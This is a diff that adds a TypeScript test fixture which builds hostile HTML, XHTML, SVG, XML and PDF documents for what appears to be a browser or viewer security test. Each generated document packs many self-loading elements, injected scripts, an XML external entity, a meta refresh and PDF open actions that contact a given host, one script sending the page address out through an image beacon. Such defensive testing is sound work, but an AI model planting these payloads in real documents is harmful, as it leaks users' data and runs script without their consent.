@@ -1,0 +1,81 @@
+/** Documents that do whatever a document can do by itself to reach somebody else, and to tell him where it is. */
+export type HostileForm = 'html' | 'xhtml' | 'svg' | 'xml' | 'pdf'
+
+export const formsOf: Readonly<
+  Record<
+    HostileForm,
+    {
+      readonly type: string
+      /** Whether the browser of the tests shows it: the others are saved. */
+      readonly isShown: boolean
+    }
+  >
+> = {
+  html: { type: 'text/html', isShown: true },
+  xhtml: { type: 'application/xhtml+xml', isShown: true },
+  svg: { type: 'image/svg+xml', isShown: true },
+  xml: { type: 'text/xml', isShown: true },
+  pdf: { type: 'application/pdf', isShown: false },
+}
+
+/** Runs first, says that it did, and takes the address along. */
+const script = (to: string) =>
+  `document.documentElement.setAttribute('data-ran', ''); new Image().src = '${to}/script?' + encodeURIComponent(location.href)`
+
+/** The elements of HTML that ask for something by themselves, written so that they are XML as well. */
+const elements = (to: string) => `
+  <script>${script(to)}</script>
+  <script src="${to}/script.js"></script>
+  <link rel="stylesheet" href="${to}/style.css" />
+  <link rel="icon" href="${to}/icon" />
+  <link rel="prefetch" href="${to}/prefetch" />
+  <link rel="preload" as="image" href="${to}/preload" />
+  <link rel="modulepreload" href="${to}/module.js" />
+  <link rel="manifest" href="${to}/manifest" />
+  <link rel="prerender" href="${to}/prerender" />
+  <style>@import url(${to}/import.css); @font-face { font-family: f; src: url(${to}/font) } body { background: url(${to}/background); font-family: f }</style>
+  <img src="${to}/image" onerror="${script(to)}" alt="" />
+  <img srcset="${to}/image-set 1x" alt="" />
+  <picture><source srcset="${to}/picture" /><img alt="" /></picture>
+  <iframe src="${to}/frame"></iframe>
+  <iframe src="javascript:${script(to)}"></iframe>
+  <object data="${to}/object"></object>
+  <embed src="${to}/embed" />
+  <video src="${to}/video" poster="${to}/poster"></video>
+  <audio src="${to}/audio"></audio>
+  <input type="image" src="${to}/input" alt="" />`
+
+const head = (to: string) => `
+  <base href="${to}/base/" />
+  <meta name="referrer" content="unsafe-url" />
+  <meta http-equiv="refresh" content="0;url=${to}/refresh" />`
+
+const html = (to: string) => `<!doctype html><html><head>${head(to)}
+  <script type="speculationrules">{"prefetch": [{"urls": ["${to}/speculation"]}]}</script></head>
+  <body onload="${script(to)}">${elements(to)}</body></html>`
+
+const xhtml = (to: string) =>
+  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head>${head(to)}</head><body>${elements(to)}</body></html>`
+
+const svg = (to: string) => `<?xml version="1.0"?><?xml-stylesheet href="${to}/style.css" type="text/css"?>
+  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${script(to)}">
+  <script>${script(to)}</script><script href="${to}/script.js"/>
+  <image href="${to}/image" width="9" height="9"/><use xlink:href="${to}/use#a"/>
+  <style>@import url(${to}/import.css); svg { background: url(${to}/background) }</style>
+  <foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${elements(to)}</body></foreignObject></svg>`
+
+const xml = (to: string) => `<?xml version="1.0"?><?xml-stylesheet href="${to}/style.xsl" type="text/xsl"?>
+  <!DOCTYPE a [<!ENTITY e SYSTEM "${to}/entity">]>
+  <a><html xmlns="http://www.w3.org/1999/xhtml"><head>${head(to)}</head><body>${elements(to)}</body></html></a>`
+
+const pdf = (to: string) => `%PDF-1.4
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${to}/uri)>>/AA<</O<</S/JavaScript/JS(app.launchURL\\('${to}/js'\\))>>>>>>endobj
+2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/SubmitForm/F<</FS/URL/F(${to}/form)>>>>>>>>endobj
+trailer<</Root 1 0 R>>
+%%EOF`
+
+const written = { html, xhtml, svg, xml, pdf }
+
+/** A document that turns to addresses below `to`. */
+export const openForm = (form: HostileForm, to: string): string => written[form](to)
